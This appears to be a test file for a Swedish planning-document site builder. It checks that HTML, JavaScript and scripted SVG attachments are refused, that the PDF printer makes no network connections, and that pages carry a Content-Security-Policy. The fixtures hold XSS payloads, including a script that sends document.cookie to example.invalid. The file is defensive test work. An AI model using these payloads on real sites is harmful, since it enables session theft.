import { cpSync, existsSync, mkdirSync, readFileSync, statSync, utimesSync, writeFileSync } from "node:fs";
import { createServer, type AddressInfo } from "node:net";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { PRINT_POLICY, printHtml } from "../src/pdf/print-html.js";
import { renderPdfs } from "../src/pdf/render.js";
import { PAGE_POLICY } from "../src/render/csp.js";
import { DEFAULT_TEMPLATES } from "../src/render/templates.js";
import { checkRepository } from "../src/check/check.js";
import { renderSite } from "../src/render/site.js";
import { decode } from "./helpers/html.js";
import { browserPath, warnIfSkipped } from "./helpers/printer.js";
import { startWatch } from "./helpers/watch.js";
import { copyExamples, edit, lineOf, read, run, tempDir } from "./helpers/repo.js";

const PLAN = "sjobacka/plan-2020.md";
const PAGE = "sjobacka/plan-2020.html";
/** The attacks on one document and the layouts need Sjöbacka's documents only. */
const SJOBACKA = { only: ["sjobacka"] };
/**
 * The printer's test: Lerum's and Sjöbacka's documents, nine PDFs of five kinds (plans, memos,
 * agreements, a report, a kallelse), among them pages with footnotes, which are printed twice
 * (a first print tells where the notes go; src/pdf/footnotes.ts) from variants of the page. The
 * hostile parts are in the layout, the page header and the style sheets, which every kind's page
 * shares; that the shipped templates of every kind ask for nothing is shown by the examples' build
 * (pdf.test.ts: no request blocked) and their pages in a browser (accessibility.test.ts).
 */
const PRINTED = { only: ["lerum", "sjobacka"] };

/** The plan's body gains `markdown` as a paragraph of its own; `files` are written beside the plan, in `sjobacka/bilagor/`. */
function repoWith(markdown: string, files: Record<string, string>): string {
  const repo = copyExamples(SJOBACKA);
  mkdirSync(join(repo, "sjobacka/bilagor"));
  for (const [name, content] of Object.entries(files)) writeFileSync(join(repo, "sjobacka/bilagor", name), content);
  edit(repo, PLAN, "\nFiktivt exempel.\n", `\nFiktivt exempel.\n\n${markdown}\n`);
  return repo;
}

const SVG_HEAD = `<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10">\n`;
const svg = (inner: string) => `${SVG_HEAD}${inner}\n</svg>\n`;
/** An SVG as a drawing program writes it: nothing in it runs or loads. */
const CLEAN_SVG = svg(
  [
    `<defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient></defs>`,
    `<style>rect { fill: url(#g); }</style>`,
    `<rect width="10" height="10" fill="url(#g)"/>`,
    `<use xlink:href="#g"/>`,
    `<image href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/>`,
    `<a href="https://www.sjobacka.se/"><text>Sjöbacka</text></a>`,
  ].join("\n"),
);

describe("attachments a browser would run are refused by plan check at the link (path/active-content)", () => {
  it.each([
    ["sida.html", "<html><script>fetch('https://example.invalid/?' + document.cookie)</script></html>", "it is an HTML page"],
    ["sida.HTM", "<script>alert(1)</script>", "it is an HTML page"],
    ["sida.xhtml", '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>', "it is an HTML page"],
    ["kod.js", "alert(1)", "it is a JavaScript file"],
    ["kod.mjs", "alert(1)", "it is a JavaScript file"],
    ["data.xml", '<?xml-stylesheet type="text/xsl" href="x.xsl"?><a/>', "it is an XML file"],
    ["bild.svgz", "\u001f\u008b", "it is a compressed SVG"],
  ])("a link to %s", async (name, content, reason) => {
    const markdown = `Se [bilagan](bilagor/${name}).`;
    const repo = repoWith(markdown, { [name]: content });
    const { code, stdout } = await run(["check", "."], repo);
    expect(code).toBe(1);
    expect(stdout).toContain(`${PLAN}:${lineOf(repo, PLAN, markdown)}:4: error [path/active-content]`);
    expect(stdout).toContain(`The file \`bilagor/${name}\` is refused: ${reason}`);
    expect(stdout).toContain("fix: Publish it in a form that cannot run");
  });

  it("beside a refused page, a PDF, a CSV and a text file pass: only the page is an error", async () => {
    const markdown = "Se [bilaga 1](bilagor/bilaga.pdf), [data](bilagor/data.csv) och [text](bilagor/las-mig.txt).";
    const repo = repoWith(`${markdown}\n\nOch [sidan](bilagor/sida.html).`, {
      "bilaga.pdf": "%PDF-1.4\n",
      "data.csv": "a;b\n1;2\n",
      "las-mig.txt": "<script>alert(1)</script>",
      "sida.html": "<script>alert(1)</script>",
    });
    const { code, stdout } = await run(["check", "."], repo);
    expect(code).toBe(1);
    expect(stdout.match(/error \[path\/active-content\]/g)).toHaveLength(1);
    expect(stdout).toContain(`${PLAN}:${lineOf(repo, PLAN, "Och [sidan]")}:5: error [path/active-content]`);
  });
});

describe("an SVG is published only when a real XML parse finds nothing that runs or loads", () => {
  it.each([
    ["a script", svg(`<rect width="10" height="10"/>\n<script>fetch("https://example.invalid/")</script>`), "a `<script>` element", 4],
    ["a script in another namespace prefix", svg(`<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>`), "a `<script>` element", 3],
    ["an event handler", svg(`<rect width="10" height="10" onload="alert(1)"/>`), "an event handler `onload` on `<rect>`", 3],
    ["a handler on the root", `<svg xmlns="http://www.w3.org/2000/svg"\n  onload="alert(1)"></svg>`, "an event handler `onload` on `<svg>`", 1],
    [
      "embedded HTML",
      svg(`<foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject>`),
      "a `<foreignObject>` element",
      3,
    ],
    ["a javascript: link", svg(`<a xlink:href="javascript:alert(1)"><text>x</text></a>`), "a `javascript:` address in `xlink:href`", 3],
    [
      "an animation that makes a link run",
      svg(`<a href="#x"><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a>`),
      "an `<set>` that changes `href`",
      3,
    ],
    [
      "an image from another server",
      svg(`<image href="https://example.invalid/spion.png" width="10" height="10"/>`),
      "a reference to `https://example.invalid/spion.png` outside the SVG",
      3,
    ],
    ["a use of another file", svg(`<use href="annan.svg#figur"/>`), "a reference to `annan.svg#figur` outside the SVG", 3],
    [
      "a CSS url to another server",
      svg(`<rect width="10" height="10" style="fill: url('https://example.invalid/f')"/>`),
      "a reference to `https://example.invalid/f` outside the SVG in `style`",
      3,
    ],
    ["an @import", svg(`<style>@import "https://example.invalid/s.css";</style>`), "a style sheet that imports another", 3],
    [
      "an XSLT style sheet",
      `<?xml-stylesheet type="text/xsl" href="x.xsl"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>`,
      "an `<?xml-stylesheet?>` instruction",
      1,
    ],
    [
      "entity declarations",
      `<!DOCTYPE svg [<!ENTITY s "<script>alert(1)</script>">]>\n<svg xmlns="http://www.w3.org/2000/svg"/>`,
      "a DOCTYPE with declarations",
      1,
    ],
    [
      "an entity that brings in a script",
      `<!DOCTYPE svg [<!ENTITY s "<script>alert(1)</script>">]>\n<svg xmlns="http://www.w3.org/2000/svg">&s;</svg>`,
      "XML that cannot be read",
      2,
    ],
    ["XML a browser may read otherwise", `<svg xmlns="http://www.w3.org/2000/svg">\n<rect></svg>`, "XML that cannot be read", 2],
  ])("%s is refused as an image, naming what and where in the SVG", async (_what, content, found, line) => {
    const markdown = "![Diagram](bilagor/diagram.svg)";
    const repo = repoWith(markdown, { "diagram.svg": content });
    const { code, stdout } = await run(["check", "."], repo);
    expect(code).toBe(1);
    expect(stdout).toContain(`${PLAN}:${lineOf(repo, PLAN, markdown)}:1: error [path/active-content]`);
    expect(stdout).toContain(`The image \`bilagor/diagram.svg\` is refused: it holds ${found}`);
    expect(stdout).toMatch(new RegExp(`\\(sjobacka/bilagor/diagram\\.svg:${line}:\\d+\\)`));
    expect(stdout).toContain("fix: Remove it from the SVG");
  });

  it("a plain SVG with gradients, inline images, styles and a link to the web passes; one with a script beside it does not", async () => {
    const repo = repoWith("![Ren](bilagor/ren.svg)\n\n![Diagram](bilagor/diagram.svg)", {
      "ren.svg": CLEAN_SVG,
      "diagram.svg": svg("<script>alert(1)</script>"),
    });
    const { code, stdout } = await run(["check", "."], repo);
    expect(code).toBe(1);
    expect(stdout.match(/error \[path\/active-content\]/g)).toHaveLength(1);
    expect(stdout).toContain(`${PLAN}:${lineOf(repo, PLAN, "![Diagram]")}:1: error [path/active-content]`);
  });

  it("plan build refuses it too: nothing is written", async () => {
    const repo = repoWith("![Diagram](bilagor/diagram.svg)", { "diagram.svg": svg("<script>alert(1)</script>") });
    const out = join(tempDir(), "out");
    const { code, stdout, stderr } = await run(["build", ".", "--out", out, "--no-pdf"], repo);
    expect(code).toBe(1);
    expect(stdout + stderr).toContain("[path/active-content]");
    expect(existsSync(join(out, "sjobacka/bilagor/diagram.svg"))).toBe(false);
  });
});

describe("watch mode agrees with a fresh check about linked SVGs", () => {
  it("an SVG that gains a script is reported at once, and the report goes when the script goes", async () => {
    const repo = repoWith("![Diagram](bilagor/diagram.svg)", { "diagram.svg": CLEAN_SVG });
    const watcher = startWatch(repo);
    try {
      expect(await watcher.next(/Watching \. for changes/)).not.toContain("path/active-content");
      writeFileSync(join(repo, "sjobacka/bilagor/diagram.svg"), svg("<script>alert(1)</script>"));
      expect(await watcher.next(/Watching \. for changes/)).toContain(`${PLAN}:${lineOf(repo, PLAN, "![Diagram]")}:1: error [path/active-content]`);
      expect((await run(["check", "."], repo)).stdout).toContain("error [path/active-content]");
      writeFileSync(join(repo, "sjobacka/bilagor/diagram.svg"), CLEAN_SVG);
      expect(await watcher.next(/Watching \. for changes/)).not.toContain("path/active-content");
    } finally {
      await watcher.stop();
    }
  });

  it("an SVG rewritten in place with a script of the same size and its old time (cp -p, an unpacked archive) is judged anew", async () => {
    const file = "sjobacka/bilagor/diagram.svg";
    const clean = svg(`<rect width="10" height="10"/><desc>${"x".repeat(40)}</desc>`);
    const active = svg(`<rect width="10" height="10"/><script>alert(1)</script>`);
    // The same size, in the same inode, with the modification time set back: only the change time tells it changed.
    const padded = active.replace("<script>", `<desc>${"x".repeat(clean.length - active.length - 13)}</desc><script>`);
    expect(padded.length).toBe(clean.length);
    const repo = repoWith("![Diagram](bilagor/diagram.svg)", { "diagram.svg": clean });
    // A time of whole seconds, as an archive or a copy from another file system gives.
    const then = new Date("2024-03-01T12:00:00Z");
    utimesSync(join(repo, file), then, then);
    const watcher = startWatch(repo);
    try {
      expect(await watcher.next(/Watching \. for changes/)).not.toContain("path/active-content");
      writeFileSync(join(repo, file), padded);
      utimesSync(join(repo, file), then, then);
      expect(statSync(join(repo, file)).mtimeMs).toBe(then.getTime());
      expect(await watcher.next(/Watching \. for changes/)).toContain(`${PLAN}:${lineOf(repo, PLAN, "![Diagram]")}:1: error [path/active-content]`);
    } finally {
      await watcher.stop();
    }
  });
});

describe("active files are never copied into the output, even when the build was not checked", () => {
  it("the renderer leaves out an HTML attachment and an SVG with a script, and shows their text", () => {
    const repo = repoWith("Se [bilagan](bilagor/sida.html) och ![Diagram](bilagor/diagram.svg) och [ren](bilagor/ren.svg).", {
      "sida.html": "<script>alert(1)</script>",
      "diagram.svg": svg("<script>alert(1)</script>"),
      "ren.svg": CLEAN_SVG,
    });
    // The renderer alone, as a build would call it had `plan check` been skipped.
    const files = renderSite(checkRepository(repo, { cwd: repo }).repo);
    const paths = files.map((f) => f.path);
    expect(paths).not.toContain("sjobacka/bilagor/sida.html");
    expect(paths).not.toContain("sjobacka/bilagor/diagram.svg");
    expect(Buffer.from(files.find((f) => f.path === "sjobacka/bilagor/ren.svg")!.content).toString("utf8")).toBe(CLEAN_SVG);
    const page = Buffer.from(files.find((f) => f.path === PAGE)!.content).toString("utf8");
    expect(page).toContain("Se bilagan och [Bild: Diagram] och");
    expect(page).not.toContain("sida.html");
  });
});

warnIfSkipped("The printer's network test", "browser");

/** A server on a loopback address that counts the TCP connections made to it (not only requests) and answers none. */
async function connectionCounter(host: string): Promise<{ port: number; connections: () => number; close: () => Promise<void> } | undefined> {
  const server = createServer();
  let connections = 0;
  server.on("connection", (socket) => {
    connections++;
    socket.destroy();
  });
  try {
    await new Promise<void>((resolve, reject) => {
      server.once("error", reject);
      server.listen(0, host, () => resolve());
    });
  } catch {
    return undefined; // no IPv6 on this machine
  }
  return {
    port: (server.address() as AddressInfo).port,
    connections: () => connections,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

/** Everything a page can make a browser connect with, pointing at `base` (`http://127.0.0.1:1234`). */
const headTags = (base: string) =>
  [
    `<link rel="preconnect" href="${base}">`,
    `<link rel="dns-prefetch" href="${base}">`,
    `<link rel="prefetch" href="${base}/prefetch">`,
    `<link rel="preload" as="image" href="${base}/preload.png">`,
    `<link rel="modulepreload" href="${base}/module.js">`,
    `<link rel="stylesheet" href="${base}/style.css">`,
    `<link rel="icon" href="${base}/favicon.ico">`,
  ].join("\n");
const bodyTags = (base: string) =>
  [
    `<iframe src="${base}/iframe"></iframe>`,
    `<object data="${base}/object"></object>`,
    `<embed src="${base}/embed">`,
    `<img src="${base}/img.png" alt="">`,
    `<img srcset="${base}/srcset.png 2x" alt="">`,
    `<picture><source srcset="${base}/source.png"><img alt=""></picture>`,
    `<video poster="${base}/poster.png"></video>`,
    `<audio src="${base}/audio.mp3"></audio>`,
    `<svg><image href="${base}/svg-image.png"/></svg>`,
    `<div style="background-image: url('${base}/inline-style.png')">x</div>`,
  ].join("\n");
const cssRules = (base: string, n: number) =>
  [
    `@font-face { font-family: "Spion${n}"; src: url("${base}/font.woff2") format("woff2"); }`,
    `body { font-family: "Spion${n}", sans-serif; }`,
    `main { background: url("${base}/background.png"); }`,
    `h1::before { content: url("${base}/content.png"); }`,
    `ul { list-style-image: url("${base}/bullet.png"); }`,
  ].join("\n");

describe("the printer makes no network connection, whatever the templates and documents ask for", () => {
  it.skipIf(!browserPath)(
    "preconnect, prefetch, preload, frames, objects, fonts, CSS urls, images and a refresh in the templates and documents: the PDFs are made and the servers see 0 connections",
    async () => {
      const four = (await connectionCounter("127.0.0.1"))!;
      const six = await connectionCounter("::1");
      try {
        const bases = [
          `http://127.0.0.1:${four.port}`,
          `http://localhost:${four.port}`,
          ...(six ? [`http://[::1]:${six.port}`, `http://localhost:${six.port}`] : []),
        ];
        const repo = copyExamples(PRINTED);
        cpSync(DEFAULT_TEMPLATES, join(repo, "templates"), { recursive: true });
        // The repository's own templates, as a pull request can change them.
        const imports = bases.map((b) => `@import url("${b}/import.css");`).join("\n");
        edit(repo, "templates/style.css", /^/, `${imports}\n${bases.map(cssRules).join("\n")}\n`);
        edit(repo, "templates/print.hbs", /^@page/m, `${bases.map((b, i) => cssRules(b, i + 10)).join("\n")}\n@page`);
        edit(
          repo,
          "templates/layout.hbs",
          "<title>",
          `<meta http-equiv="refresh" content="0; url=${bases[0]}/refresh">\n${bases.map(headTags).join("\n")}\n<title>`,
        );
        edit(repo, "templates/layout.hbs", '<main id="innehall">', `<main id="innehall">\n${bases.map(bodyTags).join("\n")}`);
        edit(repo, "templates/partials/doc-header.hbs", /^/, `<iframe src="${bases[1]}/partial"></iframe><link rel="preconnect" href="${bases[0]}">\n`);
        // And a document's own: raw HTML and a remote image (the image is a check warning and shown as its text).
        edit(
          repo,
          PLAN,
          "\nFiktivt exempel.\n",
          `\nFiktivt exempel.\n\n![Spion](${bases[0]}/doc.png)\n\n<link rel="preconnect" href="${bases[1]}"><iframe src="${bases[0]}/doc-frame"></iframe>\n`,
        );
        const out = join(tempDir(), "out");
        const { code, stderr } = await run(["build", ".", "--out", out, "--pdf"], repo);
        expect(code, stderr).toBe(0);
        for (const pdf of ["sjobacka/plan-2020.pdf", "lerum/tjansteskrivelse-ks18-1375.pdf"])
          expect(readFileSync(join(out, pdf)).subarray(0, 5).toString()).toBe("%PDF-");
        await new Promise((resolve) => setTimeout(resolve, 200));
        expect(four.connections()).toBe(0);
        if (six) expect(six.connections()).toBe(0);
      } finally {
        await four.close();
        await six?.close();
      }
    },
    180_000,
  );
});

describe("the printer's own flags hold even for a page nobody sanitised", () => {
  it.skipIf(!browserPath)(
    "a page straight to the printer with preconnect, prefetch, a frame, an object and a font makes 0 connections",
    async () => {
      const four = (await connectionCounter("127.0.0.1"))!;
      try {
        const base = `http://127.0.0.1:${four.port}`;
        const root = tempDir();
        const page = join(root, "page.html");
        writeFileSync(
          page,
          `<!DOCTYPE html><html lang="sv"><head><title>Prov</title>\n${headTags(base)}\n${headTags(`http://localhost:${four.port}`)}\n<style>${cssRules(base, 1)}</style></head>\n<body><p>Synlig text.</p>\n${bodyTags(base)}\n</body></html>`,
        );
        const result = await renderPdfs([{ source: page, target: join(root, "page.pdf"), label: "page.pdf" }], { browserPath: browserPath!, jobs: 1, root });
        expect(result.printed).toBe(1);
        await new Promise((resolve) => setTimeout(resolve, 200));
        expect(four.connections()).toBe(0);
      } finally {
        await four.close();
      }
    },
    120_000,
  );
});

describe("the print variant of a page is parsed and stripped of everything that connects", () => {
  it("drops links, frames, objects, a refresh, a base and remote addresses, and puts plan's policy first", () => {
    const base = "http://127.0.0.1:9";
    const page = `<!DOCTYPE html><html lang="sv"><head><!-- <head> --><meta charset="utf-8"><meta http-equiv="refresh" content="0; url=${base}/r"><base href="${base}/">
<meta http-equiv="Content-Security-Policy" content="default-src *">${headTags(base)}<title>Prov</title></head>
<body><p>Synlig <a href="https://www.sjobacka.se/">länk</a> och <a href="annan.html">sida</a>.</p><img src="bild.png" alt="lokal"><img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">
${bodyTags(base)}<a href="${base}/x" ping="${base}/ping">spårad</a></body></html>`;
    const print = printHtml(page, "@page { size: A4; }", "");
    for (const tag of [
      "<link",
      "<iframe",
      "<object",
      "<embed",
      "<base",
      "<video",
      "<audio",
      "<source",
      "refresh",
      "ping=",
      "127.0.0.1:9/img",
      "127.0.0.1:9/srcset",
      "127.0.0.1:9/svg-image",
      "default-src *",
    ]) {
      expect(print, tag).not.toContain(tag);
    }
    const head = decode(print.slice(print.indexOf("<head>"), print.indexOf("</head>")));
    expect(head).toMatch(new RegExp(`^<head><meta http-equiv="Content-Security-Policy" content="${PRINT_POLICY.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")}">`));
    expect(head).toContain("@page { size: A4; }");
    expect(print).toContain('<img src="bild.png" alt="lokal">');
    expect(print).toContain('src="data:image/png;base64,iVBORw0KGgo="');
    expect(print).toContain('<a href="https://www.sjobacka.se/">länk</a> och <a>sida</a>');
  });

  it("a layout that gave its charset only as http-equiv still prints as UTF-8", () => {
    const page = `<!DOCTYPE html><html lang="sv"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><title>Å</title></head><body>Åsa</body></html>`;
    const print = printHtml(page, "", "");
    expect(print).not.toContain('http-equiv="Content-Type"');
    expect(print).toMatch(/<head><meta charset="utf-8"><meta http-equiv="Content-Security-Policy"/);
  });
});

describe("every published page carries plan's Content-Security-Policy, whatever the layout", () => {
  it.each([
    ["leaves it out", (layout: string) => layout.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, "")],
    ["weakens it", (layout: string) => layout.replace(/content="default-src 'none';[^"]*"/, `content="default-src *"`)],
    [
      "hides it in a comment before the head",
      (layout: string) =>
        `<!-- <html><head>${layout.match(/<meta http-equiv="Content-Security-Policy"[^>]*>/)![0]} -->\n${layout.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, "")}`,
    ],
  ])("a repository layout that %s", async (_how, change) => {
    const repo = copyExamples(SJOBACKA);
    cpSync(DEFAULT_TEMPLATES, join(repo, "templates"), { recursive: true });
    writeFileSync(join(repo, "templates/layout.hbs"), change(read(repo, "templates/layout.hbs")));
    const out = join(tempDir(), "out");
    expect((await run(["build", ".", "--out", out, "--no-pdf"], repo)).code).toBe(0);
    // What the browser reads: comments hold nothing.
    const html = decode(read(out, PAGE)).replace(/<!--[\s\S]*?-->/g, "");
    const policies = [...html.matchAll(/<meta http-equiv="Content-Security-Policy" content="([^"]*)">/gi)];
    expect(policies.map((m) => m[1])).toEqual([PAGE_POLICY]);
    // First in the head: nothing before it loads.
    expect(html).toMatch(/<head>\s*<meta http-equiv="Content-Security-Policy"/);
  });

  it.each([
    ["refresh", `<meta http-equiv="refresh" content="0; url=https://example.invalid/">`],
    ["refresh written with entities", `<meta HTTP-EQUIV="&#114;efresh" content="0; url=https://example.invalid/">`],
  ])("a repository layout with a %s after plan's policy: the published pages have none", async (_how, refresh) => {
    const repo = copyExamples(SJOBACKA);
    cpSync(DEFAULT_TEMPLATES, join(repo, "templates"), { recursive: true });
    const layout = read(repo, "templates/layout.hbs");
    writeFileSync(join(repo, "templates/layout.hbs"), layout.replace(/(<meta http-equiv="Content-Security-Policy"[^>]*>)/, `$1\n${refresh}`));
    expect(read(repo, "templates/layout.hbs")).toContain(refresh);
    const out = join(tempDir(), "out");
    expect((await run(["build", ".", "--out", out, "--no-pdf"], repo)).code).toBe(0);
    for (const page of [PAGE, "index.html"]) {
      const html = read(out, page);
      expect(html, page).not.toMatch(/refresh/i);
      expect(html, page).not.toContain("example.invalid");
      expect(html, page).toMatch(/<head>\s*<meta http-equiv="Content-Security-Policy"/);
    }
  });
});
